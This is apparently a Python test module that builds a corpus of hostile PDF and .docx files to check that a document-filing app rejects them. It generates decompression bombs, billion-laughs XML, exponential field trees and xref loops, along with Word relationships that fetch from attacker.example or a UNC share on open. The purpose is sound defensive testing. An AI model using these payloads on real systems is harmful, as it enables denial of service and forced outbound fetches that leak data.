"""A corpus of hostile files, made by code (nothing large is committed).

PDFs: form-field trees shaped as a DAG (one child listed many times per level: exponential
paths for a naive walk), deep and wide field trees, huge arrays, cross-reference loops,
compression bombs (Flate) in the cross-reference stream and in an object stream, deep
nesting, truncated and polyglot (PDF + ZIP) files. OOXML and ZIP files: every kind of
external relationship that makes Word fetch on open, zip bombs, many members, DTDs and
entity expansion, deeply nested XML.
"""

from __future__ import annotations

import functools
import io
import zipfile
import zlib
from pathlib import Path


def pdf(*objects: bytes, trailer: bytes = b"", root: int = 1) -> bytes:
    """A PDF with the given objects (numbered from 1) and a classic xref table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root %d 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1, root, trailer, xref)
    return bytes(out)


def _catalog(fields: bytes) -> list[bytes]:
    return [
        b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields " + fields + b" /SigFlags 3 >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
    ]


def dag_field_tree(levels: int = 12, fanout: int = 10) -> bytes:
    """Each level lists the next level's one field ``fanout`` times: fanout**levels paths, ~1 KB."""
    first = 4
    objects = _catalog(b"[" + b" ".join([b"%d 0 R" % first] * fanout) + b"]")
    for level in range(levels):
        number = first + level
        kids = b" ".join([b"%d 0 R" % (number + 1)] * fanout)
        objects.append(b"<< /T (f%d) /Kids [%s] >>" % (level, kids))
    objects.append(b"<< /FT /Sig /T (leaf) /V << /Type /Sig >> >>")
    return pdf(*objects)


def deep_field_tree(depth: int = 5000) -> bytes:
    """A chain of ``depth`` nested fields."""
    first = 4
    objects = _catalog(b"[%d 0 R]" % first)
    objects += [b"<< /T (n) /Kids [%d 0 R] >>" % (first + i + 1) for i in range(depth)]
    objects.append(b"<< /FT /Sig /T (leaf) /V << /Type /Sig >> >>")
    return pdf(*objects)


def wide_field_tree(width: int = 20000) -> bytes:
    """``width`` distinct signature fields under /Fields."""
    first = 4
    objects = _catalog(b"[" + b" ".join(b"%d 0 R" % (first + i) for i in range(width)) + b"]")
    objects += [b"<< /FT /Sig /T (s%d) /V << /Type /Sig >> >>" % i for i in range(width)]
    return pdf(*objects)


def huge_array(megabytes: int = 4) -> bytes:
    """/Fields is one array of ``megabytes`` MB of small integers."""
    array = b"[" + b"0 " * (megabytes * 512 * 1024) + b"]"
    return pdf(*_catalog(array))


def many_objects(count: int = 100_000) -> bytes:
    """A cross-reference table of ``count`` entries (objects that all point at one tiny object)."""
    out = bytearray(b"%PDF-1.7\n")
    catalog = len(out)
    out += b"1 0 obj\n<< /Type /Catalog >>\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (count + 1)
    out += (b"%010d 00000 n \n" % catalog) * count
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (count + 1, xref)
    return bytes(out)


def xref_loop() -> bytes:
    """Two cross-reference sections whose /Prev point at each other (and one at itself)."""
    body = pdf(*_catalog(b"[]"))
    first = body.rindex(b"\nxref\n") + 1
    table = body[first:body.index(b"trailer", first)]
    second = len(body)
    extra = table + b"trailer\n<< /Size 4 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (second, second)
    looped = body.replace(b"/Root 1 0 R >>", b"/Root 1 0 R /Prev %d >>" % second)
    return looped + extra


@functools.lru_cache(maxsize=4)
def _bomb(megabytes: int) -> bytes:
    packer = zlib.compressobj(9)
    chunk = b"\x00" * (1024 * 1024)
    return b"".join(packer.compress(chunk) for _ in range(megabytes)) + packer.flush()


def flate_bomb_xref_stream(megabytes: int = 256) -> bytes:
    """The only cross-reference section is a stream inflating to ``megabytes`` MB."""
    out = bytearray(b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n")
    bomb = _bomb(megabytes)
    xref = len(out)
    out += b"2 0 obj\n<< /Type /XRef /Size 3 /W [1 4 2] /Root 1 0 R /Filter /FlateDecode /Length %d >>\nstream\n" % (
        len(bomb))
    out += bomb + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def flate_bomb_field(megabytes: int = 256) -> bytes:
    """The signature value's /Contents comes from an object stream that inflates to ``megabytes`` MB."""
    bomb = _bomb(megabytes)
    objects = _catalog(b"[4 0 R]")
    objects.append(b"<< /FT /Sig /T (s) /V 6 0 R >>")
    objects.append(b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(bomb)
                   + bomb + b"\nendstream")
    body = pdf(*objects)
    # object 6 lives in the object stream (object 5): a cross-reference stream would say so;
    # a classic table cannot, so point the reader at it by an entry it has to decode.
    return body.replace(b"/V 6 0 R", b"/V 5 0 R")


def array_in_object_stream(count: int = 1_500_000) -> bytes:
    """/Fields is an array of ``count`` integers packed in a compressed object stream.

    The bytes show nothing large (a byte-level scan cannot see it): only parsing finds out.
    Referenced through a cross-reference stream (type 2 entry).
    """
    out = bytearray(b"%PDF-1.7\n")
    offsets = {}
    bodies = {
        1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields 5 0 R >> >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
    }
    for number, body in bodies.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    header = b"5 0 "
    packed = zlib.compress(header + b"[" + b"0 " * count + b"]", 9)
    offsets[4] = len(out)
    out += b"4 0 obj\n<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (
        len(header), len(packed)) + packed + b"\nendstream\nendobj\n"
    offsets[6] = len(out)
    rows = [b"\x00" + (0).to_bytes(4, "big") + b"\xff\xff"]
    rows += [b"\x01" + offsets[n].to_bytes(4, "big") + b"\x00\x00" for n in (1, 2, 3, 4)]
    rows += [b"\x02" + (4).to_bytes(4, "big") + b"\x00\x00", b"\x01" + offsets[6].to_bytes(4, "big") + b"\x00\x00"]
    table = b"".join(rows)
    out += b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % len(table)
    out += table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[6]
    return bytes(out)


def deep_nesting(depth: int = 200_000) -> bytes:
    """The catalog holds an array nested ``depth`` levels deep."""
    return pdf(b"<< /Type /Catalog /Deep " + b"[" * depth + b"]" * depth + b" >>")


def deep_dictionaries(depth: int = 100_000) -> bytes:
    return pdf(b"<< /Type /Catalog /AcroForm " + b"<< /A " * depth + b">> " * depth + b">>")


def truncated(pdf_bytes: bytes, keep: float = 0.5) -> bytes:
    return pdf_bytes[: int(len(pdf_bytes) * keep)]


def polyglot(pdf_bytes: bytes) -> bytes:
    """A signed PDF with a ZIP archive appended: a valid ZIP to unzip, a PDF to a viewer."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zipped:
        zipped.writestr("payload.txt", "hello")
    return pdf_bytes + archive.getvalue()


def zip_in_pdf_clothing() -> bytes:
    """A ZIP archive whose first bytes are a PDF header."""
    archive = io.BytesIO()
    archive.write(b"%PDF-1.7\n")
    with zipfile.ZipFile(archive, "a") as zipped:
        zipped.writestr("[Content_Types].xml", "<Types/>")
    return archive.getvalue()


def pdf_corpus(talon: bytes) -> dict[str, bytes]:
    """Every hostile PDF, by name (``talon``: a real issued talon to break)."""
    return {
        "dag field tree (10**12 paths)": dag_field_tree(),
        "deep field tree (5000 levels)": deep_field_tree(),
        "wide field tree (20000 fields)": wide_field_tree(),
        "huge array (4 MB)": huge_array(),
        "many objects (100000)": many_objects(),
        "xref loop": xref_loop(),
        "flate bomb in the xref stream (256 MB)": flate_bomb_xref_stream(),
        "flate bomb in an object stream (256 MB)": flate_bomb_field(),
        "deep array nesting": deep_nesting(),
        "deep dictionary nesting": deep_dictionaries(),
        "truncated talon": truncated(talon),
        "talon cut to its header": talon[:64],
        "polyglot talon + zip": polyglot(talon),
        "zip with a pdf header": zip_in_pdf_clothing(),
    }


def issued_talon(base: Path) -> tuple[Path, bytes, list]:
    """(instance folder with the department's keys, a real issued talon, the trust roots).

    Made once by a throw-away app on its own SQLite file; tests verify with apps of their
    own on the same instance folder (same keys).
    """
    from sqlalchemy import select

    from app.documents import services
    from app.documents.models import Document
    from app.documents.runtime import keystore, trust_roots
    from app.extensions import db
    from tests.conftest import build_app
    from tests.factories import add_user, filed_complaint, make_business

    app = build_app(base, SQLALCHEMY_DATABASE_URI=f"sqlite:///{base / 'talon.db'}")
    with app.app_context():
        keystore().initialize()
    email = add_user(app)
    filed_complaint(app, email, make_business(app, email))
    with app.app_context():
        document = db.session.scalar(select(Document).where(Document.kind == "complaint_receipt"))
        talon, roots = services.pdf_bytes(document), trust_roots()
        db.session.remove()
        db.engine.dispose()
    return Path(app.instance_path), talon, roots


# --- OOXML and ZIP ------------------------------------------------------------------------------

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
# Relationship types that make Word or Excel fetch their target when the document opens.
FETCHING_TYPES = ("attachedTemplate", "oleObject", "frame", "image", "subDocument", "externalLink",
                  "externalLinkPath", "package", "audio", "video", "font", "stylesWithEffects")
_DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    f'<Override PartName="/word/document.xml" ContentType="{_DOCX_MAIN}"/></Types>'
)
_PACKAGE_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    f'<Relationship Id="rId1" Type="{REL}officeDocument" Target="word/document.xml"/></Relationships>'
)
_DOCUMENT = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    "<w:body><w:p><w:r><w:t>Evidence</w:t></w:r></w:p></w:body></w:document>"
)


def relationships(*rels: tuple[str, str, str | None]) -> str:
    """A .rels part with (type, target, target mode) relationships."""
    items = "".join(
        f'<Relationship Id="rId{i}" Type="{kind}" Target="{target}"'
        + (f' TargetMode="{mode}"' if mode else "") + "/>"
        for i, (kind, target, mode) in enumerate(rels, start=10)
    )
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            + items + "</Relationships>")


def docx(parts: dict[str, str | bytes] | None = None) -> bytes:
    """A minimal valid .docx, with ``parts`` (path -> content) added or replaced."""
    entries = {"[Content_Types].xml": _CONTENT_TYPES, "_rels/.rels": _PACKAGE_RELS, "word/document.xml": _DOCUMENT}
    entries.update(parts or {})
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return buffer.getvalue()


DOCUMENT_RELS = "word/_rels/document.xml.rels"


def docx_fetching(kind: str, *, part: str = DOCUMENT_RELS) -> bytes:
    """A .docx whose ``part`` holds one external relationship of type ``kind``."""
    rels = relationships((REL + kind, f"http://attacker.example/{kind}.bin", "External"))
    return docx({part: rels})


def zip_bomb(megabytes: int = 200) -> bytes:
    """A .docx with one member of ``megabytes`` MB of zeros (ratio about 1000:1)."""
    return docx({"word/media/blank.bin": b"\x00" * (megabytes * 1024 * 1024)})


def ooxml_corpus() -> dict[str, tuple[bytes, str]]:
    """Hostile office documents by name: (bytes, the expected refusal: "external" or "type")."""
    corpus = {f"docx with an external {kind}": (docx_fetching(kind), "external") for kind in FETCHING_TYPES}
    corpus["external template in the package rels"] = (docx_fetching("attachedTemplate", part="_rels/.rels"),
                                                       "external")
    corpus["external OLE object in a header's rels"] = (docx_fetching("oleObject", part="word/_rels/header1.xml.rels"),
                                                        "external")
    corpus["image from a UNC path, internal mode"] = (docx({DOCUMENT_RELS: relationships(
        (REL + "image", "\\\\attacker.example\\share\\a.png", None))}), "external")
    corpus["zip bomb (200 MB of zeros)"] = (zip_bomb(), "type")
    corpus["3000 members"] = (docx({f"word/m{i}.xml": "<a/>" for i in range(3000)}), "type")
    corpus["DTD in [Content_Types].xml"] = (docx({"[Content_Types].xml": _CONTENT_TYPES.replace(
        "<Types", '<!DOCTYPE Types [<!ENTITY a "aaaaaaaaaa">]><Types')}), "type")
    laughs = ('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "' + "a" * 100 + '">'
              + "".join(f'<!ENTITY a{i} "' + f"&a{i - 1};" * 10 + '">' for i in range(1, 10)).replace("&a0;", "&a;")
              + ']><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">&a9;'
              "</Relationships>")
    corpus["billion laughs in a .rels part"] = (docx({DOCUMENT_RELS: laughs}), "type")
    deep = ('<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            + "<x>" * 5000 + "</x>" * 5000 + "</Relationships>")
    corpus["5000 levels of XML in a .rels part"] = (docx({DOCUMENT_RELS: deep}), "type")
    corpus["zip with trailing garbage"] = (docx() + b"garbage", "type")
    return corpus
